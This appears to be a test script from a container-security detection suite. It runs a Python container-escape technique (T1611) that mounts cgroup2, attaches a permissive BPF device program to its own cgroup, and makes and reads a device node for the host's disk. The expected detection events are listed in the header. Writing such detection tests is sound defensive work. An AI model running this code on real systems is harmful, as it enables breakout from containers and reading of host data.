# category: container-escape
# technique: T1611
# art: no
# expect: bpf-program-load privileged-mount-in-container device-node-in-container
# image: debian
# opts: --no-nnp --cap CAP_SYS_ADMIN --cap CAP_MKNOD
# desc: a container with CAP_SYS_ADMIN mounts the cgroup v2 hierarchy, loads a BPF_PROG_TYPE_CGROUP_DEVICE program that allows every device (r0 = 1) and attaches it to its own cgroup, the cgroup v2 form of writing "a" to devices.allow; then it makes a node for the host's first disk and tries to read it (the cgroup v1 device controller of this hybrid host still refuses)
python3 - <<'PY'
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NR_BPF, PROG_LOAD, PROG_ATTACH = 321, 5, 8
CGROUP_DEVICE_PROG, CGROUP_DEVICE_ATTACH, ALLOW_MULTI = 15, 6, 2
def bpf(cmd, attr):
    buf = ctypes.create_string_buffer(attr.ljust(128, b"\0"))
    r = libc.syscall(NR_BPF, cmd, buf, 128)
    return r, os.strerror(ctypes.get_errno()) if r < 0 else ""
os.makedirs("/tmp/cg2", exist_ok=True)
if libc.mount(b"none", b"/tmp/cg2", b"cgroup2", 0, None) < 0:
    print("mount cgroup2:", os.strerror(ctypes.get_errno())); raise SystemExit(0)
mine = next(l.split(":", 2)[2].strip() for l in open("/proc/self/cgroup") if l.startswith("0::"))
print("own cgroup:", mine)
insns = struct.pack("<BBhi", 0xB7, 0, 0, 1) + struct.pack("<BBhi", 0x95, 0, 0, 0)  # r0 = 1; exit
code = ctypes.create_string_buffer(insns, len(insns))
lic = ctypes.create_string_buffer(b"GPL")
fd, err = bpf(PROG_LOAD, struct.pack("<IIQQ", CGROUP_DEVICE_PROG, 2, ctypes.addressof(code), ctypes.addressof(lic)))
print("BPF_PROG_LOAD cgroup_device:", fd, err)
if fd < 0:
    raise SystemExit(0)
cg = os.open("/tmp/cg2" + mine, os.O_RDONLY | os.O_DIRECTORY)
r, err = bpf(PROG_ATTACH, struct.pack("<IIII", cg, fd, CGROUP_DEVICE_ATTACH, ALLOW_MULTI))
print("BPF_PROG_ATTACH to own cgroup:", r, err)
major, minor, name = next((int(p[0]), int(p[1]), p[3]) for p in (l.split() for l in open("/proc/partitions")) if len(p) == 4 and p[0].isdigit())
os.mknod("/tmp/hostdisk", 0o600 | 0o060000, os.makedev(major, minor))
print(f"mknod /tmp/hostdisk b {major} {minor} ({name})")
try:
    with open("/tmp/hostdisk", "rb") as d:
        print("read", len(d.read(512)), "bytes of the host's disk")
except OSError as e:
    print("open /tmp/hostdisk:", e.strerror)
PY
